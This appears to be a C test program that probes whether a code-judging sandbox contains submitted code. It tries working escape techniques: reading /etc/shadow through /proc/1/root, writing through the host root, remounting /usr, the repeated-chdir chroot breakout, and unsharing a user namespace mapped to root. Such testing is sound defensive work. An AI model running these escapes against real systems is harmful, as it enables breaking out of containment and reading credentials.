/* unshare_escape.c -- CONTAINMENT: classic namespace/chroot escapes.
 *  1. read /proc/1/root/etc/shadow and /proc/<ppid>/root/etc/shadow; if
 *     /proc/1/root is a different root than ours, try to write through it;
 *  2. in a child, without new namespaces: mount a tmpfs on /mnt, remount /usr
 *     read-write and write into it, and the chroot("jail") + chdir("..")*64 +
 *     chroot(".") trick (escapes a chroot-only jail);
 *  3. in a child: unshare(CLONE_NEWUSER|CLONE_NEWNS), map ourselves to root,
 *     and repeat step 2 with the new (namespaced) capabilities.
 * A nested user namespace or a private tmpfs mount alone is NOT an escape
 * (reported on stderr only).  An escape is: reading a host secret, writing a
 * read-only tree, or ending up at a different "/" than the sandbox root.  After
 * each attempt the child writes /tmp/codehub-adv-unshare-write: harmless in
 * the private /tmp, but it shows up on the host if the chroot trick reached
 * the host root -- the test checks the host paths.  Expected: AC. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat root_st;

static int readable(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    char c;
    int ok = read(fd, &c, 1) == 1;
    close(fd);
    return ok;
}

static int writable(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        return 0;
    int ok = write(fd, "codehub-adv\n", 12) == 12;
    close(fd);
    return ok;
}

static int same_root(void) {
    struct stat st;
    return stat("/", &st) == 0 && st.st_dev == root_st.st_dev && st.st_ino == root_st.st_ino;
}

static void write_file(const char *path, const char *s) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        (void)!write(fd, s, strlen(s));
        close(fd);
    }
}

/* Step 2/3 body; returns 1 on escape.  Runs in a child. */
static int attempts(const char *tag) {
    int escaped = 0;
    if (mount("none", "/mnt", "tmpfs", 0, "size=1m") == 0)
        fprintf(stderr, "note[%s]: tmpfs mount on /mnt allowed (private, not counted)\n", tag);
    if (mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        fprintf(stderr, "note[%s]: remount of /usr without MS_RDONLY accepted\n", tag);
    if (writable("/usr/codehub-adv-remount")) {
        printf("ESCAPED[%s]: wrote /usr/codehub-adv-remount\n", tag);
        escaped = 1;
    }
    /* chroot-breakout: needs CAP_SYS_CHROOT, defeats chroot-only jails. */
    char jail[] = "/tmp/codehub-adv-jail-XXXXXX";
    if (mkdtemp(jail) && chroot(jail) == 0) {
        for (int i = 0; i < 64; i++)
            (void)!chdir("..");
        (void)!chroot(".");
        if (!same_root()) {
            printf("ESCAPED[%s]: chroot trick reached a different root\n", tag);
            escaped = 1;
        }
        if (readable("/etc/shadow")) {
            printf("ESCAPED[%s]: /etc/shadow readable after chroot trick\n", tag);
            escaped = 1;
        }
    }
    (void)rmdir(jail); /* harmless if mkdtemp failed */
    (void)writable("/tmp/codehub-adv-unshare-write"); /* host path is checked by the test */
    return escaped;
}

static int in_child(int use_userns) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0)
        return 0;
    if (pid == 0) {
        if (use_userns) {
            uid_t uid = getuid();
            gid_t gid = getgid();
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
                _exit(0); /* not allowed: nothing to try */
            fprintf(stderr, "note: nested user+mount namespace allowed (not counted)\n");
            char map[64];
            write_file("/proc/self/setgroups", "deny");
            snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
            write_file("/proc/self/uid_map", map);
            snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
            write_file("/proc/self/gid_map", map);
        }
        int e = attempts(use_userns ? "userns" : "plain");
        fflush(stdout);
        _exit(e ? 42 : 0);
    }
    int status = 0;
    if (waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 42)
        return 1;
    return 0;
}

int main(void) {
    int escaped = 0;
    if (stat("/", &root_st) != 0)
        return 1;

    char path[64];
    pid_t ppid = getppid();
    if (readable("/proc/1/root/etc/shadow")) {
        puts("ESCAPED: /proc/1/root/etc/shadow readable");
        escaped = 1;
    }
    snprintf(path, sizeof path, "/proc/%d/root/etc/shadow", (int)ppid);
    if (ppid > 0 && readable(path)) {
        printf("ESCAPED: %s readable\n", path);
        escaped = 1;
    }
    struct stat st;
    if (stat("/proc/1/root/", &st) == 0 && (st.st_dev != root_st.st_dev || st.st_ino != root_st.st_ino)) {
        fprintf(stderr, "note: /proc/1/root is not our root\n");
        if (writable("/proc/1/root/tmp/codehub-adv-proc1root")) {
            puts("ESCAPED: wrote through /proc/1/root");
            escaped = 1;
        }
    }

    escaped |= in_child(0);
    escaped |= in_child(1);

    if (!escaped)
        puts("Hello World!");
    return 0;
}
